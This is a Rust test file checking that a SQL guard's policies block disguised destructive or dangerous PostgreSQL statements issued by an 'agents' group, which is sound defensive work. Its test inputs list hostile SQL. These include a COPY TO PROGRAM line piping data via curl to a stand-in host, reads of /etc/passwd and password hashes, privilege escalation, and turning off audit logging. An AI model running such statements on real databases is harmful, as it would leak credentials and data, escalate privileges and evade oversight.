//! The shipped policies (examples/policy.toml, the demo's) decide statements dressed up to slip
//! past a rule the way they decide the plain statements: guard-sql's facts for each statement,
//! evaluated by guard-core, no gateway.

use guard_core::{AuthMethod, Identity, Policy, Request, Resource, Timestamp, Verdict};
use guard_sql::classify::Classifier;

/// What `policy` decides for `sql` from a member of `group`: `allow`, `approve`, or
/// `deny:<rule ids>` (the strictest over the statements).
fn decide(policy: &Policy, group: &str, sql: &str) -> String {
    let identity = Identity::new("someone", AuthMethod::Trust).with_groups([group]);
    let resource = Resource::new("db", "postgres");
    let class = Classifier::new().classify(sql);
    let mut worst = String::from("allow");
    for i in 0..class.statements.len() {
        let facts = class.statement_facts(i).expect("facts");
        // A Monday, 10:00 UTC (inside the sample's office hours).
        let now = Timestamp::from_unix_secs(1_796_637_600);
        let d = policy.evaluate(&Request::new(&identity, &resource, &facts, now));
        match d.verdict {
            Verdict::Deny { rules, .. } => return format!("deny:{}", rules.join(",")),
            Verdict::Approve { .. } => worst = "approve".to_owned(),
            _ => {}
        }
    }
    worst
}

fn load(source: &str) -> Policy {
    Policy::builder()
        .fact_schema(guard_sql::FACTS)
        .build(source)
        .expect("the policy compiles")
}

#[track_caller]
fn expect(policy: &Policy, group: &str, sql: &str, want: &str) {
    let got = decide(policy, group, sql);
    if let Some(rule) = want.strip_prefix("deny:") {
        assert!(
            got.strip_prefix("deny:")
                .is_some_and(|r| r.split(',').any(|x| x == rule)),
            "{group}: {sql}: want a deny by {rule}, got {got}"
        );
    } else {
        assert_eq!(got, want, "{group}: {sql}");
    }
}

#[test]
fn the_demo_policy_sees_through_dressed_up_statements() {
    let p = load(guard_gateway::demo::POLICY);
    for sql in [
        "DELETE FROM orders",
        "MERGE INTO orders o USING (SELECT 1) s ON true WHEN MATCHED THEN DELETE",
        "EXPLAIN ANALYZE DELETE FROM orders",
        "WITH d AS (DELETE FROM orders RETURNING id) SELECT count(*) FROM d",
        "UPDATE orders SET total = 0 WHERE 1 = 1",
    ] {
        expect(&p, "agents", sql, "deny:no-unbounded-writes");
    }
    expect(&p, "agents", "DELETE FROM orders WHERE id = 7", "allow");
    expect(&p, "agents", "EXPLAIN DELETE FROM orders", "allow");
    for sql in [
        "SELECT pg_read_file('postgresql.conf')",
        "COPY orders TO PROGRAM 'curl -d @- https://example.invalid'",
        "COPY orders FROM '/etc/passwd'",
        "SELECT lo_export(16400, '/tmp/x')",
        "SELECT pg_terminate_backend(42)",
        "LOAD 'plpgsql'",
        "SELECT rolname, rolpassword FROM pg_authid",
        "SELECT passwd FROM pg_catalog.pg_shadow",
        "COPY (SELECT umoptions FROM pg_user_mappings) TO STDOUT",
        // Other sessions' statements, as `ALTER ROLE app PASSWORD '...'`.
        "SELECT pid, query FROM pg_stat_activity",
        "SELECT * FROM pg_catalog.pg_stat_activity",
        // A standby's replication password, commands that may carry keys.
        "SHOW primary_conninfo",
        "SHOW ALL",
        "SELECT name, setting FROM pg_settings",
        "SELECT current_setting('archive_command')",
        // Large objects' contents without lo_get.
        "SELECT data FROM pg_largeobject",
        // A built-in's name pointed at another C function.
        "UPDATE pg_catalog.pg_proc SET prosrc = 'pg_read_file' WHERE oid = 870",
        // Superuser-only settings: triggers and foreign keys off, the server's own log off.
        "SET session_replication_role = replica",
        "SET log_statement = 'none'",
        "SELECT set_config('pgaudit.log', 'none', false)",
    ] {
        expect(&p, "agents", sql, "deny:no-server-escape");
    }
    for sql in [
        "SELECT pid, state, wait_event FROM pg_stat_activity",
        "SHOW work_mem",
        "SELECT setting FROM pg_settings WHERE name = 'work_mem'",
    ] {
        expect(&p, "agents", sql, "allow");
    }
    // Privileges however they change.
    for sql in [
        "CREATE ROLE r2 SUPERUSER",
        "ALTER USER postgres PASSWORD 'x'",
        "GRANT pg_read_server_files TO CURRENT_USER",
        "ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO public",
        "CREATE POLICY p ON customers USING (true)",
        "ALTER POLICY p ON customers USING (true)",
        "ALTER TABLE customers OWNER TO r2",
        "REASSIGN OWNED BY postgres TO r2",
        "CREATE USER MAPPING FOR public SERVER s OPTIONS (user 'u')",
    ] {
        expect(&p, "agents", sql, "deny:no-role-changes");
    }
    expect(
        &p,
        "agents",
        "ALTER SYSTEM SET fsync = off",
        "deny:no-server-escape",
    );
    expect(&p, "agents", "SET ROLE postgres", "deny:no-role-switch");
    expect(
        &p,
        "agents",
        "SELECT set_config('role', 'postgres', false)",
        "deny:no-role-switch",
    );
    expect(&p, "agents", "DROP TABLE orders", "deny:no-drop");
    expect(&p, "agents", "CREATE TABLE scratch (a int)", "approve");
    expect(&p, "agents", "SELECT * FROM customers", "allow");
    // A masked column's value kept where a later statement reads it back unmasked (a
    // setting, read with current_setting or SHOW) is a copy, as INSERT ... SELECT is.
    for sql in [
        "INSERT INTO orders (note) SELECT ssn FROM customers",
        "SELECT set_config('x.y', translate(ssn, '0123456789', 'abcdefghij'), false) FROM customers",
        "SELECT set_config('application_name', (SELECT card_number FROM customers LIMIT 1), false)",
    ] {
        expect(&p, "agents", sql, "approve");
    }
    expect(
        &p,
        "agents",
        "SELECT set_config('x.y', 'plain', false)",
        "allow",
    );
    // Admins are not limited by any of it.
    expect(&p, "admins", "DROP TABLE orders", "allow");
    expect(
        &p,
        "admins",
        "COPY orders TO PROGRAM 'gzip > /tmp/o.gz'",
        "allow",
    );
}

#[test]
fn the_sample_policy_sees_through_dressed_up_statements() {
    let source = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/policy.toml"))
        .expect("examples/policy.toml");
    let p = load(&source);
    expect(
        &p,
        "dba",
        "WITH x AS (DELETE FROM audit.log WHERE id = 1 RETURNING *) INSERT INTO audit.log SELECT * FROM x",
        "deny:audit-rows-stay",
    );
    expect(
        &p,
        "dba",
        "DELETE FROM audit.log WHERE id = 1",
        "deny:audit-is-append-only",
    );
    assert!(!decide(&p, "dba", "INSERT INTO audit.log VALUES (1)").contains("audit"));
    expect(
        &p,
        "agents",
        "WITH d AS (DELETE FROM t RETURNING *) SELECT 1",
        "deny:no-unbounded-writes",
    );
    expect(
        &p,
        "dba",
        "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE",
        "deny:no-unbounded-writes",
    );
    expect(&p, "agents", "DROP TABLE t", "deny:no-drop-for-agents");
    expect(
        &p,
        "dba",
        "COPY t TO PROGRAM 'sh'",
        "deny:no-copy-to-server",
    );
    expect(&p, "dba", "SET ROLE admin", "deny:no-role-change");
    expect(
        &p,
        "dba",
        "SELECT rolpassword FROM pg_authid",
        "deny:no-dangerous-functions",
    );
    expect(&p, "agents", "DO $$ BEGIN NULL; END $$", "deny:no-opaque");
    expect(&p, "agents", "SELECT 1 +", "deny:no-unparsable");
}
